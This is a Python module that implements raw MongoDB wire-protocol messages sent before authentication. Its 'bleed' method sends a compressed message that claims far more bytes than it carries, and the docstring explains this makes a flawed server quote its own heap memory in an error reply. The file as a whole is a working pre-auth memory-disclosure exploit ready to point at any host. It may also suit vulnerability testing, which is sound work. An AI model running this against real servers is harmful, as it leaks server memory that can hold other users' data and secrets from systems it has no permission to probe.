"""MongoDB's wire protocol, byte by byte: what a stranger can send before signing in."""

import socket
import struct
import zlib
from pathlib import Path
from typing import Any

from bson import decode, encode

_OP_MSG = 2013
_OP_COMPRESSED = 2012
_HEADER = struct.Struct("<iiii")
NOOP, SNAPPY, ZLIB, ZSTD = range(4)
CLAIMED_BYTES = 20_000
"""The length that a compressed message claims to have; the real one is far shorter."""


class Stranger:
    """A connection without credentials."""

    def __init__(self, where: Path | tuple[str, int]) -> None:
        family = socket.AF_UNIX if isinstance(where, Path) else socket.AF_INET
        self._socket = socket.socket(family)
        self._socket.settimeout(10)
        self._socket.connect(str(where) if isinstance(where, Path) else where)

    def hello(self, compression: list[str]) -> dict[str, Any]:
        """What the server answers to a driver that offers `compression`."""
        command = {"hello": 1, "compression": compression, "$db": "admin"}
        self._send(_OP_MSG, b"\0\0\0\0\0" + encode(command))
        return decode(self._receive()[5:])

    def bleed(self, compressor: int) -> bytes:
        """Send a message that claims more bytes than it has; return the answer, empty if there is none.

        A server with the flaw looks for a document in all that it claims, and so in its own memory. Its
        error message quotes what it finds there.
        """
        document = struct.pack("<i", CLAIMED_BYTES - 100) + b"\x02no-such-field"  # a document without an end
        body = b"\0\0\0\0\0" + document
        packed = zlib.compress(body) if compressor == ZLIB else body
        self._send(_OP_COMPRESSED, struct.pack("<iiB", _OP_MSG, CLAIMED_BYTES, compressor) + packed)
        return self._receive()

    def close(self) -> None:
        self._socket.close()

    def _send(self, opcode: int, body: bytes) -> None:
        self._socket.sendall(_HEADER.pack(_HEADER.size + len(body), 1, 0, opcode) + body)

    def _receive(self) -> bytes:
        header = self._exactly(_HEADER.size)
        return self._exactly(_HEADER.unpack(header)[0] - _HEADER.size) if header else b""

    def _exactly(self, count: int) -> bytes:
        received = b""
        while len(received) < count:
            try:
                chunk = self._socket.recv(count - len(received))
            except ConnectionResetError:
                return b""
            if not chunk:
                return b""
            received += chunk
        return received
